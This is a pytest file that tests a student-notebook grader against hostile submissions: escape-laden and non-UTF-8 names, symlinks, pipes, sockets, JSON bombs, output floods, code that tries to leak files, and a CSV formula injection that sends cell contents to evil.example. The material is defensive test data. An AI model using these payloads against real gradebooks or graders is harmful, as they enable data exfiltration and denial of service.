"""A class of hostile and malformed submissions graded together, by `medialit grade`'s engine
and by the pytest plugin: each gets rows a student understands, the batch never crashes or
hangs, nothing in the outputs breaks a CSV or a terminal, and good students' rows are exactly
what they are when graded alone."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from medialit.grade.bundle import bundle_from_dict, load_bundle, write_bundle
from medialit.grade.engine import grade_class
from medialit.grade.exports import write_outputs

HERE = Path(__file__).parent


def _kit():
    import importlib.util

    spec = importlib.util.spec_from_file_location("grade_kit_hostile", HERE / "conftest.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


KIT = _kit()
NOT_UTF8 = os.fsdecode(b"mallory\xff\xfe")  # a folder name that is not UTF-8
ESCAPES = "eve\n\x1b[2J\x1b[31mred\u202e"  # newline, ANSI escapes, a bidi override
FORMULA = '=HYPERLINK("https:evil.example?"&A1,"click")'  # no "/" in a folder name


def nb_with(cells: list[str], metadata: dict | None = None) -> dict:
    notebook = KIT.notebook(KIT.RIGHT, KIT.FIND_QUOTES_SOLUTION)
    notebook["cells"] += [KIT.code_cell(source) for source in cells]
    if metadata is not None:
        notebook["metadata"] = metadata
    return notebook


def write(folder: Path, name: str, data: bytes | str | dict) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    if isinstance(data, dict):
        data = json.dumps(data)
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogatepass")
    (folder / name).write_bytes(data)


def build_class(root: Path) -> dict[str, dict]:
    """Write the class; return, per student (as the outputs name them), what to expect:
    ``rows``: item -> (status, words the feedback must hold), or ``all``: (status, words)."""
    subs = root / "subs"
    expect: dict[str, dict] = {}
    right = KIT.notebook(KIT.RIGHT, KIT.FIND_QUOTES_SOLUTION)
    KIT.write_submission(subs, "alice", right, KIT.RIGHT_ANNOTATIONS)

    # --- names
    os.makedirs(os.fsencode(subs) + b"/mallory\xff\xfe")
    write(Path(os.fsdecode(os.fsencode(subs) + b"/mallory\xff\xfe")), "demo.ipynb", right)
    expect["mallory\\xff\\xfe"] = {"all": ("ungradable", "not plain text")}
    KIT.write_submission(subs, ESCAPES, right, KIT.RIGHT_ANNOTATIONS)
    expect["eve\\x0a\\x1b[2J\\x1b[31mred\\u202e"] = {"all": ("ungradable", "control characters")}
    KIT.write_submission(subs, FORMULA, right, KIT.RIGHT_ANNOTATIONS)
    expect[FORMULA] = {"rows": {"q1": ("correct", "Correct")}}

    # --- what stands where a folder or a file should be
    (subs / "linked").symlink_to(subs / "alice", target_is_directory=True)
    expect["linked"] = {"all": ("ungradable", "symbolic link")}
    os.mkfifo(subs / "pipe-student")
    expect["pipe-student"] = {"all": ("ungradable", "named pipe")}
    (subs / "stray.txt").write_text("not a student")
    expect["stray.txt"] = {"all": ("ungradable", "not a folder")}
    (subs / "nblink").mkdir()
    (subs / "nblink" / "demo.ipynb").symlink_to(subs / "alice" / "demo.ipynb")
    expect["nblink"] = {"all": ("ungradable", "symbolic link")}
    (subs / "nbfifo").mkdir()
    os.mkfifo(subs / "nbfifo" / "demo.ipynb")
    expect["nbfifo"] = {"all": ("ungradable", "named pipe")}
    (subs / "annfifo").mkdir()
    write(subs / "annfifo", "demo.ipynb", right)
    os.mkfifo(subs / "annfifo" / "demo.answers.json")
    expect["annfifo"] = {"rows": {"q5": ("ungradable", "named pipe"), "q1": ("correct", "")}}
    (subs / "nbsocket").mkdir()
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(subs / "nbsocket" / "demo.ipynb"))
    server.close()
    expect["nbsocket"] = {"all": ("ungradable", "socket")}
    (subs / "nbdevice").mkdir()
    if os.getuid() == 0:
        os.mknod(subs / "nbdevice" / "demo.ipynb", stat.S_IFCHR | 0o644, os.makedev(1, 5))
        expect["nbdevice"] = {"all": ("ungradable", "device file")}
    else:
        (subs / "nbdevice" / "demo.ipynb").symlink_to("/dev/zero")
        expect["nbdevice"] = {"all": ("ungradable", "symbolic link")}

    # --- formats and sizes
    write(subs / "oldformat", "demo.ipynb", {"nbformat": 3, "worksheets": [], "metadata": {}})
    expect["oldformat"] = {"all": ("ungradable", "old notebook format version 3")}
    write(subs / "deepjson", "demo.ipynb", b"[" * 100_000 + b"]" * 100_000)
    expect["deepjson"] = {"all": ("ungradable", "nested too deeply")}
    (subs / "huge").mkdir()
    with open(subs / "huge" / "demo.ipynb", "wb") as handle:
        handle.truncate(200 * 1024 * 1024)  # sparse: 200 MB that take no disk
    expect["huge"] = {"all": ("ungradable", "MB")}
    bomb = b'{"nbformat": 4, "cells": [], "metadata": {"x": [' + b"{}," * 2_000_000 + b"{}]}}"
    write(subs / "bomb", "demo.ipynb", bomb)
    expect["bomb"] = {"all": ("ungradable", "JSON objects")}
    write(subs / "bigdigits", "demo.ipynb", nb_with(["q4_share = 1" + "0" * 5000]))
    expect["bigdigits"] = {
        "rows": {"q4": ("incorrect", "Python cannot read"), "q1": ("correct", "")}
    }
    big_list = "q3_sources = [" + "'x', " * 1_200_000 + "]"  # 6 MB: the literal that cost 4.8 GB
    write(subs / "bigliteral", "demo.ipynb", nb_with([big_list]))
    expect["bigliteral"] = {"rows": {"q3": ("incorrect", "too long"), "q1": ("correct", "")}}

    # --- text that is not text
    surrogate = nb_with(['q1_technique = "Do\\ud800ubt"'])  # a Python escape in the source
    write(subs / "surrogate", "demo.ipynb", surrogate)
    expect["surrogate"] = {"rows": {"q1": ("incorrect", "not valid text"), "q2": ("correct", "")}}
    raw = json.dumps(KIT.notebook({"q1_technique": "Doubt"})).replace("Doubt", "Do\\udc00ubt")
    write(subs / "jsonsurrogate", "demo.ipynb", raw)  # a JSON escape in the notebook text
    expect["jsonsurrogate"] = {"rows": {"q1": ("incorrect", "not valid text")}}
    write(subs / "ctrl", "demo.ipynb", KIT.notebook({"q1_technique": "Doubt\x1b[2J\r\n=1+1"}))
    expect["ctrl"] = {"rows": {"q1": ("incorrect", "")}}

    # --- annotations
    huge = [{**KIT.RIGHT_ANNOTATIONS[0], "start": 10**4000, "end": 10**4000 + 5}]
    KIT.write_submission(subs, "offsets", right, huge)
    expect["offsets"] = {"rows": {"q5": ("missing", "not a passage"), "q1": ("correct", "")}}
    write(subs / "badann", "demo.ipynb", right)
    write(subs / "badann", "demo.answers.json", b"\xff[[[")
    expect["badann"] = {"rows": {"q5": ("ungradable", "not valid JSON")}}

    # --- code that misbehaves
    deep = (
        "def find_direct_quotes(text):\n    v = []\n"
        "    for _ in range(100000):\n        v = [v]\n    return v\n"
    )
    write(subs / "deepresult", "demo.ipynb", KIT.notebook(KIT.RIGHT, deep))
    expect["deepresult"] = {"rows": {"q6": ("incorrect", "nested too deeply")}}
    flood = "import os\ndef find_direct_quotes(text):\n    os.write(1, b'x' * 10**8)\n"
    write(subs / "flood", "demo.ipynb", KIT.notebook(KIT.RIGHT, flood))
    expect["flood"] = {"rows": {"q6": ("incorrect", "printed more than")}}
    leak = (
        "import os\ndef find_direct_quotes(text):\n"
        "    raise ValueError(open(os.environ.get('BUNDLE', '/etc/hostname')).read())\n"
    )
    write(subs / "leak", "demo.ipynb", KIT.notebook(KIT.RIGHT, leak))
    expect["leak"] = {"rows": {"q6": ("incorrect", "0 of 3 checks passed")}}

    # --- renamed copies of the set (found by the set in the notebook's metadata)
    renamed = {**right, "metadata": {"medialit": {"set": "demo", "title": "Demo"}}}
    write(subs / "renamed", "Copy of demo.ipynb", renamed)
    expect["renamed"] = {"rows": {"q1": ("correct", "")}, "file": "Copy of demo.ipynb"}
    write(subs / "twocopies", "demo (1).ipynb", renamed)
    write(subs / "twocopies", "Copy of demo.ipynb", renamed)
    expect["twocopies"] = {"all": ("ungradable", "2 notebooks are the demo set")}
    return expect


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    write_bundle(bundle_from_dict(KIT.demo_bundle_dict(), "demo"), root / "grader")
    expect = build_class(root)
    alone = root / "alone"
    KIT.write_submission(
        alone,
        "alice",
        KIT.notebook(KIT.RIGHT, KIT.FIND_QUOTES_SOLUTION),
        KIT.RIGHT_ANNOTATIONS,
    )
    baseline = grade_class(alone, root / "grader", root / "alone-out", workers=1)
    started = time.monotonic()
    run = grade_class(root / "subs", root / "grader", root / "out", workers=2)
    seconds = time.monotonic() - started
    write_outputs(run.results, load_bundle(root / "grader"), root / "out")
    return root, expect, run, baseline, seconds


def rows(run) -> dict[str, dict[str, tuple]]:
    return {
        result.student: {item.item: (item.status, item.feedback) for item in result.items}
        for result in run.results
    }


def test_every_entry_has_rows_and_good_rows_are_unchanged(graded) -> None:
    _, expect, run, baseline, seconds = graded
    table = rows(run)
    assert set(expect) | {"alice"} == set(table)
    assert table["alice"] == rows(baseline)["alice"]
    assert seconds < 300  # a hang guard, not a speed target


def check_student(table, expect, student) -> None:
    wanted = expect[student]
    got = table[student]
    if "all" in wanted:
        status, words = wanted["all"]
        for item, (row_status, feedback) in got.items():
            assert row_status == status, (student, item, feedback)
            assert feedback.startswith(f"{status}: ") if status == "ungradable" else True
            assert words in feedback, (student, item, feedback)
    for item, (status, words) in wanted.get("rows", {}).items():
        assert got[item][0] == status, (student, item, got[item])
        assert words in got[item][1], (student, item, got[item])


STUDENTS = [
    "mallory\\xff\\xfe",
    "eve\\x0a\\x1b[2J\\x1b[31mred\\u202e",
    FORMULA,
    "linked",
    "pipe-student",
    "stray.txt",
    "nblink",
    "nbfifo",
    "annfifo",
    "nbsocket",
    "nbdevice",
    "oldformat",
    "deepjson",
    "huge",
    "bomb",
    "bigdigits",
    "bigliteral",
    "surrogate",
    "jsonsurrogate",
    "ctrl",
    "offsets",
    "badann",
    "deepresult",
    "flood",
    "leak",
    "renamed",
    "twocopies",
]


@pytest.mark.parametrize(
    "student", STUDENTS, ids=[s.encode("ascii", "replace").decode()[:20] for s in STUDENTS]
)
def test_each_hostile_class_gets_rows_a_student_understands(graded, student) -> None:
    _, expect, run, _, _ = graded
    check_student(rows(run), expect, student)


def test_the_gradebook_is_one_clean_row_per_student_and_item(graded) -> None:
    root, expect, _, _, _ = graded
    text = (root / "out" / "gradebook.csv").read_text(encoding="utf-8")
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == 7 * (len(expect) + 1)
    assert len(text.splitlines()) == len(table) + 1  # no field holds a line break
    for row in table:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@")), (column, cell)
    students = {row["student"] for row in table}
    assert "'" + FORMULA in students
    renamed = [row for row in table if row["student"] == "renamed"]
    assert {row["file"] for row in renamed} == {"Copy of demo.ipynb"}
    for path in (root / "out" / "feedback").iterdir():
        assert "\x1b" not in path.read_text(encoding="utf-8")


def test_no_file_in_the_submissions_changed_and_nothing_leaked(graded) -> None:
    _, _, run, _, _ = graded
    feedback = json.dumps([r.to_dict() for r in run.results])
    assert "the meeting in Geneva was postponed" not in feedback.replace(
        json.dumps(KIT.RIGHT["q2_claim"])[1:-1], ""
    )  # the key text appears only where a student typed it as an answer


def test_the_pytest_plugin_writes_the_same_gradebook(graded, tmp_path) -> None:
    root, _, _, _, _ = graded
    out = tmp_path / "plugin-out"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-p",
            "no:cacheprovider",
            "-v",
            "-n",
            "2",
            "--junitxml",
            str(tmp_path / "junit.xml"),
            "--submissions",
            str(root / "subs"),
            "--bundle",
            str(root / "grader"),
            "--grade-out",
            str(out),
        ],
        cwd=tmp_path,
        capture_output=True,
        timeout=600,
    )
    assert done.returncode in (0, 1), done.stdout[-3000:] + done.stderr[-3000:]
    assert b"INTERNALERROR" not in done.stdout + done.stderr
    assert (out / "gradebook.csv").read_bytes() == (root / "out" / "gradebook.csv").read_bytes()
